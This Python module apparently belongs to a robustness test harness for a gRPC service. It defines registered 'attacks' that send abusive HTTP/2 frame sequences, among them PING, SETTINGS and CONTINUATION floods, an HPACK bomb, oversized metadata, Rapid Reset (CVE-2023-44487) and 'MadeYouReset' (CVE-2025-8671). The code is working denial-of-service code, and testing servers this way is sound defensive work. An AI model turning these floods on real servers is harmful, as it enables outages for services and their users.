"""Attacks by frames: what no gRPC library sends, as fast as the socket takes it."""

import contextlib
import os
import struct

import hpack
from flowstate.v1 import state_pb2

import wire
from raw import PRIORITY, SERVICE, UNKNOWN, Closed, block, call, flood, frame, header_section
from registry import attack
from wire import DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PING, RST_STREAM, SETTINGS, WINDOW_UPDATE, message

LOAD = message(b"\x0a\x06nobody")
LOAD_SECTION = block(SERVICE + "LoadState")
SAVE_SECTION = block(SERVICE + "SaveState")
#: The code of RST_STREAM (RFC 9113 §7).
CANCEL = 8
LARGEST_WINDOW = (1 << 31) - 1


def calls_of(section, payload, count, then=None):
    """So many whole calls at a time, on new streams; `then` is the type of a frame that follows each on its stream, and the number in it."""
    def one(stream):
        return call(stream, section, payload) + (frame(then[0], 0, stream, struct.pack(">I", then[1])) if then else b"")

    return lambda connection: b"".join(one(connection.take_stream()) for _ in range(count))


@attack("frames", closes=True)
def ping_flood_read(peer):
    flood(peer, frame(PING, 0, 0, b"12345678") * 1_000)


@attack("frames", closes=True)
def ping_flood_unread(peer):
    flood(peer, frame(PING, 0, 0, b"12345678") * 1_000, reads=False)


@attack("frames", closes=True)
def settings_flood_read(peer):
    flood(peer, frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535)) * 1_000)


@attack("frames", closes=True)
def settings_flood_unread(peer):
    flood(peer, frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535)) * 1_000, reads=False)


@attack("frames", closes=True)
def window_update_flood(peer):
    flood(peer, frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 1_000)


@attack("frames", closes=True)
def window_overflow(peer):
    flood(peer, frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", LARGEST_WINDOW)) * 2)


@attack("frames", closes=True)
def priority_churn(peer):
    def one(number):
        return frame(PRIORITY, 0, 2 * number + 1, struct.pack(">IB", 2 * peer.random.randrange(5_000, 10_000), peer.random.randrange(256)))

    flood(peer, b"".join(map(one, range(1_000))))


@attack("frames", closes=True)
def unknown_frames_flood(peer):
    flood(peer, frame(UNKNOWN, 0, 0, bytes(1_000)) * 100)


def _open_call(connection):
    connection.open = connection.take_stream()
    return frame(HEADERS, END_HEADERS, connection.open, SAVE_SECTION)


@attack("frames", closes=True)
def empty_data_flood(peer):
    flood(peer, lambda connection: frame(DATA, 0, connection.open) * 1_000, setup=_open_call)


@attack("frames", closes=True)
def padded_data_flood(peer):
    """DATA that is padding only: it counts against the windows, and brings nothing."""
    flood(peer, lambda connection: frame(DATA, 8, connection.open, b"\xff" + bytes(255)) * 200, setup=_open_call)


@attack("frames", closes=True)
def goaway_flood(peer):
    flood(peer, frame(GOAWAY, 0, 0, bytes(8)) * 1_000)


@attack("frames", closes=True)
def continuation_flood_1_byte(peer):
    flood(peer, lambda connection: header_section(b"\x82", connection.take_stream(), 1_000))


@attack("frames", closes=True)
def continuation_flood_empty(peer):
    flood(peer, lambda connection: header_section(b"", connection.take_stream(), 1_000))


@attack("frames")
def hpack_bomb(peer):
    """Sections of 3 KB that name one field of 4,000 bytes 3,000 times."""
    def setup(connection):
        field = hpack.Encoder().encode([("x", "v" * 4_000)], huffman=False)
        return frame(HEADERS, END_HEADERS | END_STREAM, connection.take_stream(), LOAD_SECTION + field)

    def sections(connection):
        return b"".join(
            frame(HEADERS, END_HEADERS | END_STREAM, connection.take_stream(), LOAD_SECTION + b"\xbe" * 3_000) for _ in range(20))

    flood(peer, sections, setup=setup, pause=0.1)


@attack("frames")
def header_random_16KiB_streams(peer):
    def sections(connection):
        value = os.urandom(3_500).hex()
        section = LOAD_SECTION + hpack.Encoder().encode([(f"x-{number}", value, True) for number in range(2)], huffman=False)
        return b"".join(frame(HEADERS, END_HEADERS | END_STREAM, connection.take_stream(), section[:16_384]) for _ in range(10))

    flood(peer, sections)


@attack("frames")
def huge_metadata_60KB(peer):
    section = block(SERVICE + "LoadState", *[(f"x-{number}", "v" * 6_000) for number in range(10)])
    parts = [section[offset:offset + 16_384] for offset in range(0, len(section), 16_384)]

    def sections(connection):
        stream = connection.take_stream()
        first = frame(HEADERS, END_STREAM, stream, parts[0])
        rest = [frame(wire.CONTINUATION, END_HEADERS if part is parts[-1] else 0, stream, part) for part in parts[1:]]
        return first + b"".join(rest)

    flood(peer, sections, pause=0.002)


@attack("frames")
def rapid_reset(peer):
    """CVE-2023-44487."""
    flood(peer, calls_of(LOAD_SECTION, LOAD, 100, then=(RST_STREAM, CANCEL)))


def _save(flow, state):
    return message(state_pb2.SaveStateRequest(flow_id=flow, state=state).SerializeToString())


@attack("frames")
def rapid_reset_of_saves_of_1MiB(peer):
    payload = _save("reset", b'"%s"' % (b"x" * (1 << 20)))

    def chunk(connection):
        stream = connection.take_stream()
        connection.pump(frame(HEADERS, END_HEADERS, stream, SAVE_SECTION))
        connection.send_body(stream, payload)
        return frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))

    flood(peer, chunk, keeps=True)


@attack("frames")
def made_you_reset_by_window_update_0(peer):
    """CVE-2025-8671: the server is made to reset the streams itself."""
    flood(peer, calls_of(LOAD_SECTION, LOAD, 100, then=(WINDOW_UPDATE, 0)))


@attack("frames")
def made_you_reset_by_overflow_of_saves(peer):
    payload = _save("reset", b'"%s"' % (b"x" * 10_000))
    flood(peer, calls_of(SAVE_SECTION, payload, 20, then=(WINDOW_UPDATE, LARGEST_WINDOW)))


@attack("frames")
def more_streams_than_allowed(peer):
    flood(peer, lambda connection: b"".join(
        frame(HEADERS, END_HEADERS, connection.take_stream(), SAVE_SECTION) for _ in range(1_100)), pause=0.2)


@attack("frames")
def grpc_length_of_4_GiB(peer):
    flood(peer, calls_of(SAVE_SECTION, message(b"x" * 100, length=(1 << 32) - 1), 50))


@attack("frames")
def grpc_flags_1_and_2(peer):
    flagged = [calls_of(SAVE_SECTION, message(b"x" * 100, flag=flag), 25) for flag in (1, 2)]
    flood(peer, lambda connection: flagged[0](connection) + flagged[1](connection))


@attack("frames")
def loads_of_nothing_at_full_speed(peer):
    flood(peer, calls_of(LOAD_SECTION, LOAD, 500))


@attack("frames")
def connection_churn(peer):
    while peer.is_going():
        with contextlib.suppress(Closed), peer.connect():
            pass


@attack("frames")
def garbage_and_http1(peer):
    openings = [b"GET / HTTP/1.1\r\nHost: x\r\n\r\n", b"PRI * HTTP/2.0\r\n\r\nXX", *[os.urandom(1 << size) for size in range(13)]]
    while peer.is_going():
        with contextlib.suppress(Closed), peer.connect(preface=False) as connection:
            connection.pump(peer.random.choice(openings))
            peer.pause(0.001)
            connection.drain()
